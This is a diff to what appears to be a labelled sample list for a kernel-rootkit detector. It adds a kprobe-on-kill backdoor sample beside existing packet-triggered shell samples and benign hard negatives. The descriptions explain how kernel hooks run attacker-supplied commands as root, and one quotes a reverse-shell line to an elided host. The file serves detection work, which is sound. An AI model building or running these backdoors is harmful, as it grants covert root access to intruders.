@@ -53,7 +53,7 @@ R = {
     "kprobe": "kernel/kprobe-symbol-lookup",
     "kinline": "kernel/inline-hook-engine",
     "kftrace": "kernel/ftrace-ip-redirect",
-    "kpacket": "kernel/packet-triggered-shell",
+    "kpacket": "kernel/triggered-shell",
     "bpfwrite": "kernel/bpf-writes-user-memory",
     "bpfauth": "auth/bpf-password-probe",
     "kcred": "kernel/root-credential-trigger",
@@ -717,16 +717,21 @@ KERNEL_SAMPLES = [
     ("ftrace-tracer", "kernel-hard-negative-ftrace", "clean", [],
      [P(["-s", "-W"], "UND register_ftrace_function")],
      "Hard negative: an ftrace_ops with FTRACE_OPS_FL_RECURSION only (0x10), counting calls."),
-    ("packet-shell", "kernel-packet-triggered-shell", "malicious", ["kpacket"],
+    ("packet-shell", "kernel-triggered-shell", "malicious", ["kpacket"],
      [P(["-s", "-W"], "UND nf_register_net_hook"), P(["-s", "-W"], "UND call_usermodehelper")],
      "A netfilter hook on IPv4 pre-routing (a static nf_hook_ops) copies the bytes after a token "
      "with skb_copy_bits and queues a work item that runs them with call_usermodehelper(\"/bin/sh\", "
      "{\"/bin/sh\", \"-c\", command}); the packet is dropped."),
-    ("packet-shell-raw", "kernel-packet-triggered-shell", "malicious", ["kpacket"],
+    ("packet-shell-raw", "kernel-triggered-shell", "malicious", ["kpacket"],
      [P(["-s", "-W"], "UND dev_add_pack"), P(["-s", "-W"], "UND call_usermodehelper_exec")],
      "A packet_type handler for every protocol (dev_add_pack) runs the rest of a frame that "
      "starts with a token through /bin/bash -c: call_usermodehelper_setup (GFP_ATOMIC) and "
      "call_usermodehelper_exec (UMH_NO_WAIT); the argv table is static data."),
+    ("kprobe-shell", "kernel-triggered-shell", "malicious", ["kpacket"],
+     [P(["-s", "-W"], "UND register_kprobe"), P(["-s", "-W"], "UND call_usermodehelper")],
+     "A static kprobe on the kill system call's wrapper (__x64_sys_kill / __arm64_sys_kill) whose "
+     "pre_handler reads the signal from the caller's saved registers; signal 63 queues a work item that "
+     "runs call_usermodehelper(\"/bin/bash\", {\"/bin/bash\", \"-c\", \"bash -i >& /dev/tcp/... 0>&1\"})."),
     ("packet-helper", "kernel-hard-negative-packet-helper", "clean", [],
      [P(["-s", "-W"], "UND nf_register_net_hook"), P(["-s", "-W"], "UND call_usermodehelper")],
      "Hard negative: a netfilter hook that counts packets and, past a threshold, runs a fixed "
